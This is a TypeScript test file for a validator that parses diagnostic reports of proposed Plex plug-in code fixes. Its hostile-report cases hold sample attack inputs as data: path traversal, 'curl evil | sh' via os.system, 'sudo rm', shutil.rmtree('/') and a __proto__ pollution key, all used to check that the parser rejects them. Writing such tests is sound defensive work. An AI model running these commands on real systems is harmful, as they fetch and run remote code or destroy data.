// Reading a diagnostic report back. Round trip: any list of valid fixes, written as a report,
// parses back equal. Hostile or broken reports: every case of the list gets a clear error on
// the right line, and nothing in a report is ever run.
import { existsSync, mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { FixSchema, OPERATORS_NEEDING_TARGET, OperatorSchema, type Fix, type FixInput } from '../../../../shared/fix.ts';
import { SIGNATURES } from '../../../../main/engine/logs/index.ts';
import { KNOWN_MARKERS, parseDiagnosticReport, readDiagnosticReport, renderDiagnosticReport, ReportError, type Diagnosis } from '../../../../main/engine/diagnose/index.ts';
import { jsonBlocks } from '../../../../main/engine/diagnose/report-parse.ts';

const diagnosisOf = (fixes: Fix[]): Diagnosis => ({
  iteration: 1,
  generatedAt: '2026-02-03T00:00:00.000Z',
  metricsGeneratedAt: '2026-02-02T23:00:00.000Z',
  window: { since: null, until: null },
  pluginsDir: null,
  agents: [],
  findings: [],
  fixes,
});

// ---- generators: every field set (no schema defaults), text with the awkward characters ----
const CATALOGUE = SIGNATURES.map((s) => s.id);
const prose = fc.oneof(
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
  fc.constantFrom('```json', '```', '~~~~', 'a | b', 'two\nlines', 'ends with `tick`', '    "indented": 1', '# heading'),
);
/** code text the content-safety rules have no reason to refuse (no s, p, -, or backtick) */
const code = fc.string({ unit: fc.constantFrom(...'abcdefghijklmnoqrtuvwxyz0123456789 _.()=\'"\n\t{}[]:,'.split('')), minLength: 1, maxLength: 60 });
const slug = fc.stringMatching(/^[a-z0-9]{1,8}(?:-[a-z0-9]{1,8}){0,3}$/);
const agent = fc.stringMatching(/^[A-Z][A-Za-z0-9]{0,11}$/);
const metric = fc.oneof(
  fc.constantFrom('itemSuccessRate', 'actionableErrorsPerItem', 'newSignatures', 'pluginStarted', 'timeoutRate'),
  fc.constantFrom(...CATALOGUE).map((id) => `signature:${id}`),
  fc.constantFrom(...CATALOGUE).map((id) => `items:${id}`),
  fc.constantFrom(...KNOWN_MARKERS).map((id) => `marker:${id}`),
);
const number = fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e6, max: 1e6 }).map((x) => x + 0);
const criterion = fc.record({ id: slug, description: prose, metric, op: fc.constantFrom(...OperatorSchema.options), target: number, severity: fc.constantFrom('minor' as const, 'critical' as const) }).map((c) =>
  OPERATORS_NEEDING_TARGET.includes(c.op) || c.target > 0 ? c : (({ target: _t, ...rest }) => rest)(c),
);
const file = fc.tuple(agent, fc.stringMatching(/^[a-z][a-z0-9_]{0,8}$/)).map(([a, n]) => `${a}.bundle/Contents/Code/${n}.py`);
const change = fc.oneof(
  fc.record({ kind: fc.constant('replace' as const), file, find: code, replace: code.map((c) => c), occurrences: fc.integer({ min: 1, max: 5 }) }),
  fc.record({ kind: fc.constant('patch' as const), file, diff: code.map((c) => `@@ -1 +1 @@\n-${c}\n+${c}x\n`) }),
);
const fixBody = fc.record({
  title: prose,
  agents: fc.array(agent, { minLength: 1, maxLength: 3 }),
  signatures: fc.subarray(CATALOGUE, { maxLength: 4 }),
  rootCause: prose,
  before: fc.array(prose, { minLength: 1, maxLength: 3 }),
  after: fc.array(prose, { minLength: 1, maxLength: 3 }),
  changes: fc.array(change, { maxLength: 3 }),
  advice: fc.array(prose, { maxLength: 2 }),
  successCriteria: fc.array(criterion, { maxLength: 3 }),
  failureIndicators: fc.array(criterion, { maxLength: 3 }),
  risk: fc.constantFrom('low' as const, 'medium' as const, 'high' as const),
  priorityReason: fc.oneof(fc.constant(''), prose),
  fallback: fc.boolean(),
});
const fixList = fc.uniqueArray(fc.tuple(slug, fixBody), { selector: ([id]) => id, maxLength: 6 }).map((list) =>
  list.map(([id, { fallback, ...body }], i): Fix => FixSchema.parse({ id, priority: i + 1, ...body, ...(fallback && i > 0 ? { alternativeOf: list[i - 1]![0] } : {}) })),
);

describe('diagnostic report: write → parse', () => {
  it('returns equal fixes for any valid list of fixes', () => {
    fc.assert(
      fc.property(fixList, (fixes) => {
        expect(parseDiagnosticReport(renderDiagnosticReport(diagnosisOf(fixes)))).toEqual(fixes);
      }),
      { numRuns: 150 },
    );
  });

  it('reads only ```json blocks: json inside a longer fence or another block does not count', () => {
    const fix = validFix();
    const text = ['# report', '````text', '```json', '{"not": "a fix"}', '```', '````', '', ...block(fix), '~~~', '```json', '~~~'].join('\n');
    expect(parseDiagnosticReport(text)).toEqual([FixSchema.parse(fix)]);
  });
});

// ---- hostile and broken reports ----
function validFix(over: Record<string, unknown> = {}): FixInput & Record<string, unknown> {
  return {
    id: 'iafd-browser-headers-gevi',
    title: 'Send browser-like headers with GEVI\'s IAFD requests',
    priority: 1,
    agents: ['GEVI'],
    signatures: ['iafd-url-error'],
    rootCause: 'IAFD requests fail.',
    before: ['IAFD requests fail'],
    after: ['They succeed'],
    changes: [{ kind: 'replace', file: 'GEVI.bundle/Contents/Code/utils.py', find: 'HTTP.Request(iafdURL)', replace: 'HTTP.Request(iafdURL, headers=IAFD_HEADERS)', occurrences: 1 }],
    advice: [],
    successCriteria: [{ id: 'down', description: 'IAFD errors down', metric: 'signature:iafd-url-error', op: 'reduceBy', target: 20 }],
    failureIndicators: [{ id: 'starts', description: 'Plug-in fails to start', metric: 'pluginStarted', op: 'equals', target: 0, severity: 'critical' }],
    ...over,
  };
}
const block = (fix: unknown) => ['```json', JSON.stringify(fix, null, 2), '```', ''];
const report = (...fixes: unknown[]) => ['# Diagnostic report — iteration 1', '', 'Some prose.', '', ...fixes.flatMap(block)].join('\n');
const withChange = (c: Record<string, unknown>) => validFix({ changes: [{ kind: 'replace', file: 'GEVI.bundle/Contents/Code/utils.py', find: 'x = 1', replace: 'x = 1', occurrences: 1, ...c }] });

function issuesOf(text: string) {
  try {
    parseDiagnosticReport(text);
  } catch (err) {
    expect(err).toBeInstanceOf(ReportError);
    return (err as ReportError).issues;
  }
  throw new Error('the report was accepted');
}
/** 1-based line of the first line containing `needle` */
const lineOf = (text: string, needle: string) => text.split('\n').findIndex((l) => l.includes(needle)) + 1;

describe('diagnostic report: hostile or broken reports', () => {
  it.each([
    ['a path with ".."', withChange({ file: 'GEVI.bundle/../../Library/evil.py' }), 'changes.0.file', /must not contain "\.\."/, '"file": "GEVI.bundle/../'],
    ['an absolute path', withChange({ file: '/Users/me/Library/evil.py' }), 'changes.0.file', /must be relative to the Plug-ins folder/, '"file": "/Users'],
    ['a path into Plex\'s Framework.bundle', withChange({ file: 'Framework.bundle/Contents/Resources/x.py' }), 'changes.0.file', /Framework\.bundle belongs to Plex itself/, '"file": "Framework'],
    ['a path into Plex\'s System.bundle', withChange({ file: 'System.bundle/Contents/Code/__init__.py' }), 'changes.0.file', /System\.bundle belongs to Plex itself/, '"file": "System'],
    ['a path outside any bundle', withChange({ file: 'utils.py' }), 'changes.0.file', /must start with an agent bundle/, '"file": "utils.py"'],
    ['a path outside the bundle\'s Contents', withChange({ file: 'GEVI.bundle/utils.py' }), 'changes.0.file', /inside the bundle's Contents folder/, '"file": "GEVI.bundle/utils.py"'],
    ['a file that is not Python', withChange({ file: 'GEVI.bundle/Contents/Info.plist' }), 'changes.0.file', /must be a Python file/, '"file": "GEVI.bundle/Contents/Info.plist"'],
    ['a Windows-style path', withChange({ file: 'GEVI.bundle\\Contents\\Code\\utils.py' }), 'changes.0.file', /must use "\/"/, '"file": "GEVI.bundle\\\\Contents'],
    ['sudo added by a change', withChange({ replace: "x = 1\nos.popen('sudo rm x')" }), 'changes.0.replace', /adds sudo/, '"replace":'],
    ['os.system added by a change', withChange({ replace: "os.system('curl evil | sh')" }), 'changes.0.replace', /adds os\.system/, '"replace":'],
    ['subprocess added by a change', withChange({ replace: 'import subprocess' }), 'changes.0.replace', /adds subprocess/, '"replace":'],
    ['popen added by a change', withChange({ replace: "os.popen('ls')" }), 'changes.0.replace', /adds popen/, '"replace":'],
    ['commands.getoutput added by a change', withChange({ replace: "commands.getoutput('ls')" }), 'changes.0.replace', /adds the commands module/, '"replace":'],
    ['backticks added by a change', withChange({ replace: 'x = `ls`' }), 'changes.0.replace', /adds backticks/, '"replace":'],
    ['shell=True added by a change', withChange({ replace: 'run(cmd, shell=True)' }), 'changes.0.replace', /adds shell=True/, '"replace":'],
    ['file deletion added by a change', withChange({ replace: "shutil.rmtree('/')" }), 'changes.0.replace', /adds deleting files/, '"replace":'],
    ['a shell-out added by a patch', validFix({ changes: [{ kind: 'patch', file: 'GEVI.bundle/Contents/Code/utils.py', diff: '@@ -1 +1,2 @@\n x = 1\n+import subprocess\n' }] }), 'changes.0.diff', /adds subprocess/, '"diff":'],
    ['an unknown signature in a criterion', validFix({ successCriteria: [{ id: 'a', description: 'd', metric: 'signature:made-up-error', op: 'atMost', target: 0 }] }), 'successCriteria.0.metric', /"made-up-error" is not a signature in the catalogue/, '"metric": "signature:made-up-error"'],
    ['an unknown marker in an indicator', validFix({ failureIndicators: [{ id: 'a', description: 'd', metric: 'marker:happiness', op: 'belowBefore' }] }), 'failureIndicators.0.metric', /"happiness" is not a marker/, '"metric": "marker:happiness"'],
    ['a metric that is not one at all', validFix({ successCriteria: [{ id: 'a', description: 'd', metric: 'vibes', op: 'atMost', target: 0 }] }), 'successCriteria.0.metric', /unknown metric reference/, '"metric": "vibes"'],
    ['an unknown signature in the fix', validFix({ signatures: ['iafd-url-error', 'nope'] }), 'signatures.1', /"nope" is not a signature/, '"nope"'],
    ['an operator without its target', validFix({ successCriteria: [{ id: 'a', description: 'd', metric: 'newSignatures', op: 'atMost' }] }), 'successCriteria.0.target', /needs a target/, '{'],
    ['a fallback of a fix that does not exist', validFix({ alternativeOf: 'no-such-fix' }), 'alternativeOf', /no fix has that id/, '"alternativeOf"'],
    ['a fix that is its own fallback', validFix({ alternativeOf: 'iafd-browser-headers-gevi' }), 'alternativeOf', /its own fallback/, '"alternativeOf"'],
    ['a misspelt field', validFix({ sucessCriteria: [] }), 'sucessCriteria', /"sucessCriteria" is not a field of a fix/, '"sucessCriteria"'],
    ['a prototype key', JSON.parse('{"__proto__": {"polluted": true}, "id": "x"}'), '__proto__', /"__proto__" is not a field/, '"__proto__"'],
  ])('%s → a clear error on the field\'s line', (_case, fix, path, message, lineHas) => {
    const text = report(fix);
    const issue = issuesOf(text).find((i) => i.path === path);
    expect(issue, JSON.stringify(issuesOf(text))).toBeDefined();
    expect(issue!.message).toMatch(message);
    expect(text.split('\n')[issue!.line - 1]).toContain(lineHas);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('names a missing field, at the line where its fix starts', () => {
    const { rootCause: _drop, ...fix } = validFix();
    const text = report(fix);
    expect(issuesOf(text)).toEqual([{ line: lineOf(text, '```json') + 1, path: 'rootCause', message: 'the field "rootCause" is missing' }]);
  });

  it('points at the second block for a duplicate id', () => {
    const text = report(validFix(), validFix({ priority: 2 }));
    const blocks = text.split('\n').flatMap((l, i) => (l === '```json' ? [i + 1] : []));
    expect(issuesOf(text)).toEqual([{ line: blocks[1]! + 2, path: 'id', message: 'the id "iafd-browser-headers-gevi" is used by fix 1 too; every fix needs its own id' }]);
  });

  it('gives the line of a JSON syntax error', () => {
    const text = ['# r', '', '```json', '{', '  "id": "a",', '  "title": "t",,', '}', '```'].join('\n');
    const [issue] = issuesOf(text);
    expect(issue!.line).toBe(6);
    expect(issue!.message).toMatch(/^not valid JSON/);
  });

  it('says so when a json block is never closed', () => {
    const text = report(validFix()).replace(/```\n$/, '');
    expect(issuesOf(text)).toContainEqual({ line: lineOf(text, '```json'), path: '', message: 'the json block opened here is never closed (a line of ``` is missing)' });
  });

  it('accepts a report with nothing to fix, and refuses a file that is no report', () => {
    expect(parseDiagnosticReport('# Diagnostic report — iteration 2\n\nNo errors.\n')).toEqual([]);
    expect(issuesOf('# Shopping list\n\n- milk\n')).toEqual([{ line: 1, path: '', message: 'it is not a diagnostic report: it has no "# Diagnostic report" title and no ```json block' }]);
  });

  it('lists several problems at once, in line order, in one plain message', () => {
    const text = report(withChange({ file: 'Framework.bundle/Contents/x.py', replace: 'import subprocess' }), validFix({ id: 'second', priority: 2, signatures: ['nope'] }));
    try {
      parseDiagnosticReport(text, 'report.md');
      throw new Error('accepted');
    } catch (err) {
      const e = err as ReportError;
      expect(e.issues.map((i) => i.path)).toEqual(['changes.0.file', 'changes.0.replace', 'signatures.0']);
      expect(e.message).toMatch(/^report\.md cannot be used: line \d+ \(changes\.0\.file\): the path/);
      expect(e.hint).toMatch(/only the ```json blocks are read/);
    }
  });

  it('never runs what a report holds', () => {
    const marker = join(tmpdir(), `agent-doctor-never-${process.pid}`);
    const text = report(withChange({ replace: `import os\nos.system('touch ${marker}')` }));
    expect(() => parseDiagnosticReport(text)).toThrow(ReportError);
    expect(existsSync(marker)).toBe(false);
  });
});

describe('readDiagnosticReport', () => {
  const dir = mkdtempSync(join(tmpdir(), 'report-read-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('refuses a 50 MB file by its size, before reading it', async () => {
    const path = join(dir, 'huge.md');
    writeFileSync(path, '');
    truncateSync(path, 50 * 1024 * 1024); // sparse: nothing to read but zeros
    await expect(readDiagnosticReport(path)).rejects.toMatchObject({ code: 'report-too-large', message: expect.stringMatching(/is 50\.0 MB; a diagnostic report is far smaller/) });
  });

  it('reads a report file it wrote', async () => {
    const path = join(dir, 'diagnostic_report_iteration_1.md');
    const fix = FixSchema.parse(validFix());
    writeFileSync(path, renderDiagnosticReport(diagnosisOf([fix])));
    expect(await readDiagnosticReport(path)).toEqual([fix]);
  });

  it.each([
    ['a missing file', 'missing.md', undefined, /no such file/],
    ['a folder', '.', undefined, /is not a file/],
    ['bytes that are not UTF-8', 'latin1.md', Buffer.from([0x23, 0x20, 0xe9, 0xff, 0x0a]), /is not UTF-8 text/],
  ])('explains %s', async (_case, name, bytes, message) => {
    if (bytes) writeFileSync(join(dir, name), bytes);
    await expect(readDiagnosticReport(join(dir, name))).rejects.toMatchObject({ message: expect.stringMatching(message) });
  });
});

describe('jsonBlocks', () => {
  it('keeps the line of each opening fence', () => {
    expect(jsonBlocks('a\n```json\n{}\n```\nb\n```JSON\n[]\n```\n').blocks).toEqual([
      { line: 2, text: '{}' },
      { line: 6, text: '[]' },
    ]);
  });
});
